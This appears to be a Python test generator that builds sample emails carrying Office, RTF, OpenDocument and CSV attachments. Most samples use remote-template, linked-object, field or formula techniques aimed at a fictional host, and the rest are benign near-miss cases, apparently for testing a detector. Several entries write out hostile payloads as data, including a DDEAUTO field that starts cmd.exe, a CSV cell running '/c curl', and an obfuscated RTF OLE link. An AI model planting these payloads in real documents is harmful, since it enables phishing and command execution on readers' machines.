"""Writes the sample mails of the technique `office`: python -m tests.observe.office_samples

Their documents are made from scratch, people and outlets are made up. The same bytes come every time.
"""

from __future__ import annotations

import struct
from pathlib import Path

from tests.observe.compound_file import compound_file
from tests.observe.office_documents import (
    STRICT,
    based,
    cells,
    drawing,
    flat_opendocument,
    flat_package,
    formula,
    hlink,
    link_object,
    old_object,
    old_sheet,
    old_slides,
    old_word,
    opendocument,
    packaged,
    record,
    rels,
    runs,
    sheet,
    supbook,
    url_moniker,
    word,
)

FOLDER = Path(__file__).parents[1] / "samples" / "office"
HOST = "files.weekly-observer.example"
URL = f"https://{HOST}/r/7f3a2c91"
SHARE = f"\\\\{HOST}\\press\\programme"
_LINK = old_object("OLE2Link", link_object(url_moniker(URL))).hex()
_TEXT = "<w:p><w:r><w:t>Questions on the ferry line</w:t></w:r></w:p>"


def _rtf(text: str) -> bytes:
    return ("{\\rtf1\\ansi Questions on the ferry line\\par " + text + "}").encode("latin-1")


DOCUMENTS: dict[str, tuple[str, bytes]] = {
    "hit-attached-template": (
        "questions.docx",
        word(_TEXT, **{"word/_rels/settings.xml.rels": rels(("attachedTemplate", URL + ".dotm"))}),
    ),
    "hit-linked-picture": (
        "questions.docx",
        word(_TEXT, **{"word/_rels/document.xml.rels": rels(("image", URL))}),
    ),
    "hit-strict-utf-16": (
        "questions.docx",
        word(
            _TEXT,
            **{
                "word/_rels/document.xml.rels": rels(("image", URL), types=STRICT)
                .replace("UTF-8", "UTF-16")
                .encode("utf-16-le")
            },
        ),
    ),
    "hit-mhtml-object": (
        "questions.docx",
        word(
            _TEXT,
            **{"word/_rels/document.xml.rels": rels(("oleObject", f"mhtml:{URL}.html!x-usc:{URL}.html"))},
        ),
    ),
    "hit-frame": ("questions.docx", word(_TEXT, **{"word/_rels/webSettings.xml.rels": rels(("frame", URL))})),
    "hit-sub-document-on-share": (
        "questions.docx",
        word(_TEXT, **{"word/_rels/document.xml.rels": rels(("subDocument", "file:///" + SHARE))}),
    ),
    "hit-hyperlink": (
        "questions.docx",
        word(_TEXT, **{"word/_rels/document.xml.rels": rels(("hyperlink", URL))}),
    ),
    "hit-field-over-runs": (
        "questions.docx",
        word(_TEXT + runs(" INCLU", f'DEPICTURE "https://{HOST}', '/p.png" \\d ')),
    ),
    "hit-field-dde": (
        "questions.docx",
        word(_TEXT + runs(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k fetch {URL}"')),
    ),
    "hit-vml-picture": ("questions.docx", word(_TEXT + f'<v:shape><v:imagedata src="{URL}"/></v:shape>')),
    "hit-embedded-link": (
        "questions.docx",
        word(_TEXT, **{"word/embeddings/oleObject1.bin": link_object(url_moniker(URL))}),
    ),
    "hit-flat-package": ("questions.xml", flat_package(rels(("attachedTemplate", URL))).encode()),
    "hit-word-2003": (
        "questions.xml",
        (
            '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.'
            f'microsoft.com/office/word/2003/wordml"><w:docPr><w:attachedTemplate w:val="{URL}"/></w:docPr>'
            "</w:wordDocument>"
        ).encode(),
    ),
    "hit-webservice-formula": (
        "figures.xlsx",
        sheet(**{"xl/worksheets/sheet1.xml": cells(f'_xlfn.WEBSERVICE("https://"&amp;"{HOST}/"&amp;A1)')}),
    ),
    "hit-image-formula": (
        "figures.xlsx",
        sheet(**{"xl/worksheets/sheet1.xml": cells(f'_xlfn.IMAGE("{URL}")')}),
    ),
    "hit-external-workbook": (
        "figures.xlsx",
        sheet(**{"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("externalLinkPath", URL))}),
    ),
    "hit-web-query": (
        "figures.xlsx",
        sheet(**{"xl/connections.xml": f'<connection refreshOnLoad="1"><webPr url="{URL}"/></connection>'}),
    ),
    "hit-slides-video": (
        "talk.pptx",
        word(_TEXT, **{"ppt/slides/_rels/slide1.xml.rels": rels(("video", URL))}),
    ),
    "hit-doc-field": ("questions.doc", old_word(f'Questions \x13 INCLUDEPICTURE "{URL}" \\d \x14\x15')),
    "hit-doc-template-on-share": ("questions.doc", old_word("Questions", SHARE)),
    "hit-doc-linked-picture": (
        "questions.doc",
        compound_file({"WordDocument": bytes(600), "Data": drawing(URL)}),
    ),
    "hit-xls-external-workbook": ("figures.xls", old_sheet(supbook("\x01\x05" + chr(len(URL)) + URL))),
    "hit-xls-hyperlink": ("figures.xls", old_sheet(hlink(url_moniker(URL)))),
    "hit-xls-webservice": ("figures.xls", old_sheet(formula(URL))),
    "hit-ppt-hyperlink": ("talk.ppt", old_slides(0x0FD7, URL)),
    "hit-rtf-template": ("questions.rtf", _rtf(f"{{\\*\\template {URL}}}")),
    "hit-rtf-linked-object": (
        "questions.doc",
        _rtf("{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata " + _LINK + "}}"),
    ),
    "hit-rtf-object-obfuscated": (
        "questions.rtf",
        _rtf(
            "{\\object\\objupdate{\\*\\objdata "
            + "\r\n\t{\\*\\x 12}\\yy ".join(_LINK[at : at + 40] for at in range(0, len(_LINK), 40))
            + "}}"
        ),
    ),
    "hit-rtf-field": (
        "questions.rtf",
        _rtf(f'{{\\field{{\\*\\fldinst {{INCLUDE}}{{\\b PICTURE "{URL}" \\\\d}}}}{{\\fldrslt }}}}'),
    ),
    "hit-odt-picture": ("questions.odt", opendocument(f'<draw:image xlink:href="{URL}"/>')),
    "hit-odt-picture-on-share": (
        "questions.odt",
        opendocument(f'<draw:image xlink:href="file://{HOST}/press/a.png"/>'),
    ),
    "hit-odt-section": ("questions.odt", opendocument(f'<text:section-source xlink:href="{URL}"/>')),
    "hit-fodt-picture": ("questions.fodt", flat_opendocument(f'<draw:image xlink:href="{URL}"/>').encode()),
    "near-plain": ("questions.docx", word(_TEXT)),
    "near-own-picture": (
        "questions.docx",
        word(_TEXT, **{"word/_rels/document.xml.rels": rels(("image", "media/image1.png"), external=False)}),
    ),
    "near-own-template": (
        "questions.docx",
        word(
            _TEXT,
            **{
                "word/_rels/settings.xml.rels": rels(
                    ("attachedTemplate", "file:///C:\\Templates\\Normal.dotm")
                )
            },
        ),
    ),
    "near-commented-out": (
        "questions.docx",
        word(_TEXT, **{"word/_rels/document.xml.rels": f"<!-- {rels(('image', URL))} -->"}),
    ),
    "near-address-in-text": (
        "questions.docx",
        word(f"<w:p><w:r><w:t>INCLUDEPICTURE {URL}</w:t></w:r></w:p>"),
    ),
    "near-mail-address": (
        "questions.docx",
        word(
            _TEXT,
            **{
                "word/_rels/document.xml.rels": rels(("hyperlink", "mailto:t.hadley@weekly-observer.example"))
            },
        ),
    ),
    "near-page-field": ("questions.docx", word(_TEXT + runs(" PAGE "))),
    "near-doc-text": ("questions.doc", old_word(f"Questions: INCLUDEPICTURE {URL}")),
    "near-doc-encrypted": (
        "questions.doc",
        old_word(f'\x13 INCLUDEPICTURE "{URL}" \x14\x15', encrypted=True),
    ),
    "near-xls-own-sheet": ("figures.xls", old_sheet(record(0x1AE, struct.pack("<HH", 1, 0x0401)))),
    "near-rtf-unknown-group": ("questions.rtf", _rtf(f"{{\\*\\unknown {URL}}}")),
    "near-odt-own-picture": ("questions.odt", opendocument('<draw:image xlink:href="Pictures/a.png"/>')),
    "near-packaged-text": (
        "questions.doc",
        compound_file({"\x01Ole10Native": struct.pack("<I", 99) + packaged("note.bin", b"nothing in it")}),
    ),
    "hit-web-query-file": ("timetable.iqy", f"WEB\r\n1\r\n{URL}?q=1\r\n\r\nSelection=AllTables\r\n".encode()),
    "hit-sylk-formula": (
        "timetable.slk",
        f'ID;PWXL;N;E\r\nC;Y1;X1;K0;EWEBSERVICE("{URL}")\r\nE\r\n'.encode(),
    ),
    "hit-csv-formula": ("timetable.csv", f'Place,Hour\r\n"=WEBSERVICE(""{URL}"")",9\r\n'.encode()),
    "hit-csv-command": ("timetable.csv", f"Place,Hour\r\n=cmd|'/c curl {URL}'!A0,9\r\n".encode()),
    "near-csv-of-addresses": (
        "timetable.csv",
        f'Place,Page\r\nTerminal,{URL}\r\nPier (old),"see {URL}"\r\n'.encode(),
    ),
}


def sample(number: int, name: str, document: bytes) -> str:
    """Give the mail that carries a document."""
    return "\n".join(
        (
            "From: Tom Hadley <tom.hadley@weekly-observer.example>",
            "To: Ruth Pryce <r.pryce@parliament.example>",
            "Subject: Questions for Thursday",
            "Date: Tue, 11 Mar 2025 08:28:00 +0100",
            f"Message-ID: <20250311.office.{number}@weekly-observer.example>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="part"',
            "",
            "--part",
            "Content-Type: text/plain; charset=utf-8",
            "",
            "Dear Ms Pryce,",
            "",
            "my questions for Thursday are attached.",
            "",
            "Kind regards",
            "Tom Hadley",
            "--part",
            "Content-Type: application/octet-stream",
            f'Content-Disposition: attachment; filename="{name}"',
            "Content-Transfer-Encoding: base64",
            "",
            based(document) + "--part--",
            "",
        )
    )


def samples() -> dict[Path, str]:
    """Give every sample mail with its place."""
    return {
        FOLDER / f"{title}.eml": sample(number, name, document)
        for number, (title, (name, document)) in enumerate(DOCUMENTS.items(), 1)
    }


if __name__ == "__main__":
    FOLDER.mkdir(parents=True, exist_ok=True)
    for path, text in samples().items():
        path.write_text(text, encoding="ascii")
